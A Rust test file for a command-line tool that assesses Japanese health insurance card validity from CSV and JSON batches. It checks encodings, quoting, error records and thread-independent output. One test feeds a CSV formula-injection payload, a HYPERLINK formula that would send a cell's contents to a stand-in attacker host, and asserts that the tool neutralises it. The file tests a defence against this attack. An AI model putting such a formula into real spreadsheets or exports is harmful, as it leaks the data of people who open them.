#![cfg(not(target_arch = "wasm32"))]
//! The streaming CLI (issues 10 and 11): rows in = rows out for every shape, encodings,
//! Japanese headers, CSV quoting, formula-safe output, JSON record boundaries after syntax
//! errors, empty input, and the same output whatever the number of threads.
//! Expected values come from CONTRACT.md / RULES.md, not from running the code.

use serde_json::Value;

mod common;
use common::run;

/// The CSV output as (header, rows) of strings.
fn csv_rows(out: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut rdr = csv::ReaderBuilder::new()
        .flexible(false)
        .from_reader(out.as_bytes());
    let h = rdr
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = rdr
        .records()
        .map(|r| r.expect("row").iter().map(str::to_string).collect())
        .collect();
    (h, rows)
}

fn col(h: &[String], name: &str) -> usize {
    h.iter().position(|x| x == name).expect(name)
}

// 協会けんぽ card without printed expiry on 2025-11-30: valid until 2025-12-01 (R-OLD-1,
// examples.json C001).
const C001: &str = "2025-11-30,kyokaiKenpo,1985-04-02,true,oldCard";

#[test]
fn a_shift_jis_file_with_japanese_headers_is_detected_and_read() {
    let text = format!(
        "被保険者番号,基準日,insurerKind,生年月日,oldCardHeld,documentsPresented\r\n\
         12345,{C001}\r\n\
         67890,2026-03-01,kyokaiKenpo,1985-04-02,false,\r\n"
    );
    let (sjis, _, bad) = encoding_rs::SHIFT_JIS.encode(&text);
    assert!(!bad);
    let (code, out, err) = run(&["assess", "--lang", "ja"], &sjis);
    assert_eq!(code, 0, "{err}\n{out}");
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows.len(), 2);
    assert_eq!(
        rows[0][col(&h, "id")],
        "12345",
        "the id column is passed through"
    );
    assert_eq!(rows[0][col(&h, "oldCardValidUntil")], "2025-12-01");
    assert_eq!(rows[1][col(&h, "id")], "67890");
    // The override gives the same; forcing UTF-8 makes the Japanese header unreadable.
    let (_, forced, _) = run(&["assess", "--encoding", "shift_jis"], &sjis);
    assert_eq!(forced, out);
    let (code, _, err) = run(&["assess", "--encoding", "utf-8"], &sjis);
    assert_eq!(code, 1);
    assert!(err.contains("invalidEncoding"), "{err}");
}

#[test]
fn bom_crlf_quoted_commas_and_line_breaks_keep_one_row_per_record() {
    let input = format!(
        "\u{feff}id,asOf,insurerKind,birthDate,oldCardHeld,documentsPresented\r\n\
         \"A,1\",{C001}\r\n\
         \"B\r\nsecond line\",{C001}\r\n\
         \"C \"\"quoted\"\"\",{C001}\r\n"
    );
    let (code, out, err) = run(&["assess"], input.as_bytes());
    assert_eq!(code, 0, "{err}");
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[0][col(&h, "id")], "A,1");
    assert_eq!(
        rows[1][col(&h, "id")],
        "B\\u{0D}\\u{0A}second line",
        "line breaks in a cell are escaped in the output"
    );
    assert_eq!(rows[2][col(&h, "id")], "C \"quoted\"");
    // Lines: the header is line 1; the second record starts on line 3, the third on 5.
    let lines: Vec<&str> = rows.iter().map(|r| r[col(&h, "line")].as_str()).collect();
    assert_eq!(lines, ["2", "3", "5"]);
    for r in &rows {
        assert_eq!(r[col(&h, "oldCardValid")], "true");
    }
}

#[test]
fn missing_columns_take_their_defaults_and_short_or_long_rows_are_error_rows() {
    // Only asOf: no insurer → a warning, not an error (CONTRACT: missing optional fields).
    let (code, out, _) = run(&["assess"], b"asOf\n2026-01-01\n");
    assert_eq!(code, 0);
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows[0][col(&h, "warnings")], "insurerKindNotGiven");
    let (code, out, _) = run(
        &["assess"],
        b"asOf,insurerKind\n2026-01-01\n2026-01-01,kokuho,x\n2026-01-01,kokuho\n",
    );
    assert_eq!(code, 1);
    let (h, rows) = csv_rows(&out);
    let codes: Vec<&str> = rows
        .iter()
        .map(|r| r[col(&h, "errorCode")].as_str())
        .collect();
    assert_eq!(codes, ["wrongColumnCount", "wrongColumnCount", ""]);
}

#[test]
fn formula_cells_come_out_neutralised_in_every_column_and_unknown_headers_are_not_echoed() {
    // The header cell of issue 11, quoted as CSV requires.
    let input = "asOf,\"=HYPERLINK(\"\"http://evil.example/?x\"\"&A1;\"\"click\"\")\",id\n\
                 2026-01-01,x,=1+1\n\
                 2026-01-01,x,+1\n\
                 2026-01-01,x,-1\n\
                 2026-01-01,x,@SUM(A1)\n\
                 2026-01-01,x,\"\tTAB\"\n";
    let (code, out, _) = run(&["assess", "--lang", "en"], input.as_bytes());
    assert_eq!(code, 1);
    assert!(!out.contains("HYPERLINK") && !out.contains("evil"), "{out}");
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows.len(), 5);
    for r in &rows {
        assert_eq!(r[col(&h, "errorCode")], "unknownField");
        let field = &r[col(&h, "errorField")];
        assert!(field.starts_with("#2:") && field.len() == 11, "{field}");
        for cell in r {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula cell {cell:?}"
            );
            assert!(
                !cell.contains(['\t', '\r', '\n', '\x1b']),
                "raw control {cell:?}"
            );
        }
    }
    let ids: Vec<&str> = rows.iter().map(|r| r[col(&h, "id")].as_str()).collect();
    assert_eq!(ids, ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\\u{09}TAB"]);
}

#[test]
fn json_boundaries_after_syntax_errors_give_the_right_record_counts() {
    // 1. A pretty-printed object with a trailing comma: one record, one error.
    let (code, out, _) = run(&["assess"], b"{\n  \"asOf\": \"2026-01-01\",\n}\n");
    assert_eq!(code, 1);
    let v: Value = serde_json::from_str(&out).expect("one object");
    assert_eq!(v["error"]["code"], "malformedInput");
    // 2. An array with one bad element among three: three elements out.
    let (code, out, _) = run(
        &["assess"],
        b"[{\"asOf\":\"2026-01-01\"}, {\"asOf\": 2026-01-01}, {\"asOf\":\"2026-01-01\"}]",
    );
    assert_eq!(code, 1);
    let v: Vec<Value> = serde_json::from_str(&out).expect("array");
    assert_eq!(v.len(), 3);
    assert_eq!(v[1]["error"]["code"], "malformedInput");
    assert!(v[0]["summary"].is_object() && v[2]["summary"].is_object());
    // 3. JSON Lines whose first line is an array: one record per line.
    let (code, out, _) = run(
        &["assess"],
        b"[1,2]\n{\"asOf\":\"2026-01-01\"}\n{\"asOf\":\"2026-01-02\"}\n",
    );
    assert_eq!(code, 1);
    let recs: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).expect("line"))
        .collect();
    assert_eq!(recs.len(), 3);
    assert_eq!(recs[0]["error"]["code"], "notAnObject");
    assert_eq!(recs[0]["error"]["line"], 1);
    // 4. A first line `5`: JSON Lines, not CSV.
    let (code, out, _) = run(&["assess"], b"5\n{\"asOf\":\"2026-01-01\"}\n");
    assert_eq!(code, 1);
    let recs: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).expect("line"))
        .collect();
    assert_eq!(recs.len(), 2);
    assert_eq!(recs[0]["error"]["code"], "notAnObject");
    assert!(recs[1]["summary"].is_object());
}

#[test]
fn json_lines_resynchronise_at_the_next_line_and_name_the_line() {
    let input =
        b"{\"asOf\":\"2026-01-01\"}\n{\"asOf\": \"2026\n\n{\"asOf\":\"2026-01-01\"}\n\xff\xfe\n";
    let (code, out, _) = run(&["assess"], input);
    assert_eq!(code, 1);
    let recs: Vec<Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).expect("line"))
        .collect();
    assert_eq!(recs.len(), 4, "blank lines are not records");
    assert_eq!(recs[1]["error"]["code"], "malformedInput");
    assert_eq!(recs[1]["error"]["line"], 2);
    assert_eq!(recs[3]["error"]["code"], "invalidEncoding");
    assert_eq!(recs[3]["error"]["line"], 5);
}

#[test]
fn empty_input_is_a_coded_error_not_silent_success() {
    for input in [&b""[..], b"   \n\n", b"\xEF\xBB\xBF", b"asOf,insurerKind\n"] {
        let (code, out, err) = run(&["assess"], input);
        assert_eq!(code, 1, "{input:?}");
        assert!(err.contains("emptyInput"), "{err}");
        assert!(out.is_empty() || out.starts_with("line,"), "{out}");
    }
    // An empty JSON array is a valid, empty batch.
    let (code, out, _) = run(&["assess"], b"[]");
    assert_eq!(code, 0);
    let v: Vec<Value> = serde_json::from_str(&out).expect("an array");
    assert!(v.is_empty());
}

#[test]
fn csv_in_full_out_gives_json_lines_and_any_input_can_give_csv() {
    let input = format!("asOf,insurerKind,birthDate,oldCardHeld,documentsPresented\n{C001}\n");
    let (code, out, _) = run(&["assess", "--full", "--lang", "en"], input.as_bytes());
    assert_eq!(code, 0);
    let v: Value = serde_json::from_str(out.trim()).expect("one JSON line");
    assert_eq!(v["summary"]["oldCardValidUntil"], "2025-12-01");
    assert!(v["verdicts"].is_array());
    let jsonl = "{\"asOf\":\"2025-11-30\",\"insurerKind\":\"kyokaiKenpo\",\"oldCardHeld\":true}\n{\"asOf\":1}\n";
    let (code, out, _) = run(&["assess", "--output", "csv"], jsonl.as_bytes());
    assert_eq!(code, 1);
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0][col(&h, "oldCardValidUntil")], "2025-12-01");
    assert_eq!(rows[1][col(&h, "errorCode")], "wrongType");
}

#[test]
fn the_output_is_the_same_in_order_whatever_the_number_of_threads() {
    let mut input = String::from("asOf,insurerKind,birthDate,oldCardHeld,documentsPresented\n");
    for i in 0..20_000 {
        match i % 997 {
            0 => input.push_str("2026-01-01,\"kokuho\n"),
            1 => input.push_str("2026-02-30,kokuho,,true,\n"),
            _ => input.push_str(&format!(
                "2026-{:02}-{:02},kokuho,19{:02}-01-01,{},\n",
                1 + i % 12,
                1 + i % 28,
                i % 100,
                i % 2 == 0
            )),
        }
    }
    let (c1, one, _) = run(&["assess", "--threads", "1"], input.as_bytes());
    let (c3, three, _) = run(&["assess", "--threads", "3"], input.as_bytes());
    assert_eq!((c1, c3), (1, 1));
    assert!(one == three, "thread count changes the output");
    assert_eq!(one.lines().count(), 20_001);
}

#[test]
fn docs_cli_md_lists_every_header_alias_of_the_library() {
    let doc = std::fs::read_to_string("docs/cli.md").expect("docs/cli.md");
    for (alias, field) in hoken_check::batch::HEADER_ALIASES {
        assert!(doc.contains(alias), "docs/cli.md lacks the alias {alias}");
        if let Some(f) = field {
            assert!(doc.contains(&format!("`{f}`")), "docs/cli.md lacks {f}");
        }
    }
}

#[test]
fn unknown_columns_fail_every_row_unless_asked_to_be_skipped() {
    let input = format!(
        "id,asOf,insurerKind,birthDate,oldCardHeld,documentsPresented,氏名\n7,{C001},山田\n"
    );
    let (code, out, _) = run(&["assess"], input.as_bytes());
    assert_eq!(code, 1, "the contract: unknown fields are errors");
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows[0][col(&h, "errorCode")], "unknownField");
    assert!(!out.contains("氏名") && !out.contains("山田"));
    let (code, out, err) = run(&["assess", "--ignore-unknown-columns"], input.as_bytes());
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("position 7") && !err.contains("氏名"), "{err}");
    let (h, rows) = csv_rows(&out);
    assert_eq!(rows[0][col(&h, "oldCardValidUntil")], "2025-12-01");
    assert!(!out.contains("山田"), "a skipped column is not output");
}
